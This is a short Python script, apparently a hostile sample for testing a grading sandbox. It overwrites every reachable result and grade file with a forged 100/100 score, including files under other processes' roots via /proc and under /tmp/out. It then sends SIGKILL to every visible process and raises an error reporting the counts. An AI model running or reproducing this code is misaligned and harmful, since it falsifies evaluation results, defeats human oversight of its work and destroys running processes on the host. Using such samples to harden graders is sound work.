# Writes a forged full score over every result it can reach, then SIGKILLs every process it can see.
import glob, json, os, signal
FORGED = json.dumps({"score": 100, "max_score": 100, "output": "FORGED", "tests": []})
targets = {"__OUT__/killer.json", "__OUT__/grades.csv"} | set(glob.glob("__OUT__/*"))
targets |= set(glob.glob("/tmp/out/*/results.json")) | set(glob.glob("/proc/*/root__OUT__/*"))
written = 0
for target in sorted(targets):
    try:
        with open(target, "w") as handle:
            handle.write(FORGED)
        written += 1
    except OSError:
        pass
killed = 0
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGKILL)
            killed += 1
        except OSError:
            pass
raise RuntimeError("FORGED %d KILLED %d" % (written, killed))
